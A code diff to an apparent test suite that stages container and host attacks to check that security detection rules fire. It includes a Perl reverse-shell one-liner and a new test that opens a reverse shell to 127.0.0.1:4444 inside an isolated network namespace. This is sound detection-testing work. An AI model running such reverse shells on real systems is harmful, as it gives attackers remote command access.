@@ -1,15 +1,16 @@
 import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { type RuleFile, readOwnRules } from '@seaworthy/runtime';
-import { hasShared, sharedPath } from '@seaworthy/testkit';
+import { hasCommand, hasShared, run, sharedPath } from '@seaworthy/testkit';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { AttackStage, type Play, whyNoStage } from './support/attack-stage.ts';
 import { titled } from './support/requirements.ts';
 
-/** A second is long enough for a test. */
+/** Two seconds are long enough for a test. */
 const shorter: RuleFile = {
   name: 'shorter.yaml',
   text: `- macro: sw_long_busy
-  condition: (evt.rawarg.busy >= 1000000000)
+  condition: (evt.rawarg.busy >= 1900000000)
   override:
     condition: replace
 `,
@@ -53,6 +54,8 @@ const tokenMount = ['--volume', `/etc/hostname:${token}:ro`];
 const writableTmp = ['--tmpfs', '/tmp:exec'];
 const unmasked = ['--security-opt', 'systempaths=unconfined'];
 const ownNetwork = ['--cap-add', 'NET_ADMIN'];
+/** Others use the processors of this machine too. */
+const quick = [...ownNetwork, '--cap-add', 'SYS_NICE', '--cpu-shares', '200000'];
 const perlShell =
   'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("127.0.0.1")));open(STDIN,"<&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");';
 const pythonShell =
@@ -98,14 +101,14 @@ const attacks: readonly Attack[] = [
   {
     what: 'a processor kept busy, with a connection to the internet',
     attack: shell(
-      'ip addr add 203.0.113.5/32 dev lo; python3 /attack/busy.py 3.2 203.0.113.5; true',
-      ...ownNetwork,
+      'ip addr add 203.0.113.5/32 dev lo; nice -n -20 python3 /attack/busy.py 3.4 203.0.113.5; true',
+      ...quick,
     ),
     expected: ['Processor kept busy by a program with few connections'],
     by: 'busy.py',
     twin: shell(
-      'ip addr add 10.0.0.5/32 dev lo; python3 /attack/busy.py 3.2 10.0.0.5; true',
-      ...ownNetwork,
+      'ip addr add 10.0.0.5/32 dev lo; nice -n -20 python3 /attack/busy.py 3.4 10.0.0.5; true',
+      ...quick,
     ),
   },
   {
@@ -462,10 +465,11 @@ describe.skipIf(whyNot !== undefined)(titled('attacks in containers of Docker', 
       name,
       text: readFileSync(sharedPath(`corpora/falco/rules/${name}.yaml`), 'utf8'),
     }));
-    stage = await AttackStage.open({
-      own: [...readOwnRules(), shorter],
-      default: [...defaults, watched],
-    });
+    stage = await AttackStage.open(
+      { own: [...readOwnRules(), shorter], default: [...defaults, watched] },
+      // What else is read is nothing to the rules.
+      ['/etc/', '/root/', '/home/', '/run/', '/var/', '/vault/', '/proc/', '/dev/', '/tmp/'],
+    );
   }, 300_000);
 
   afterAll(() => stage?.close(), 60_000);
@@ -498,6 +502,24 @@ describe.skipIf(whyNot !== undefined)(titled('attacks in containers of Docker', 
         expect(found(`plain-${i}`)).toEqual([]);
       });
     },
+  );
+
+  test.skipIf(!hasCommand('unshare'))(
+    'a reverse shell on the host, in a network of its own',
+    async () => {
+      const before = stage.alertsOf('own', 'host').length;
+      const listener = join(import.meta.dirname, 'attackers/listener.py');
+      const attacker = join(import.meta.dirname, 'attackers/reverse_shell.py');
+      const line = `ip link set lo up; exec python3 ${listener} 4444 python3 ${attacker}`;
+      await run('unshare', ['-n', 'sh', '-c', line]);
+      await stage.settle();
+      // Others work on this host at the same time.
+      const alerts = stage.alertsOf('own', 'host').slice(before);
+      const ours = alerts.filter(({ output }) => output.includes('127.0.0.1:4444'));
+      expect(ours.map(({ rule }) => rule)).toEqual(['Shell on a network connection']);
+      expect(ours[0]?.output).toContain('container=');
+    },
+    30_000,
   );
 
   test('nothing was lost', () => {
